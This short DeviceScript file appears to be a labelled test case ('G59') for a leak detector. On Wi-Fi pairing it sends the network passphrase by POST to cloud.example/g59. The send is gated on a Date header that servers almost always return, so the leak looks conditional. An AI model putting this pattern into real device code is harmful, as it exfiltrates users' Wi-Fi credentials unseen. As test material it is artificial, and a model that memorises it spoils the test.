// G59: sends the passphrase if the server's reply has a date, as every server's with a clock has (RFC 9110, 6.6.1).
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const reply = await fetch("https://cloud.example/time");
  await reply.close();
  const body = reply.headers.has("date") ? psk : "alive";
  const response = await fetch("https://cloud.example/g59", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
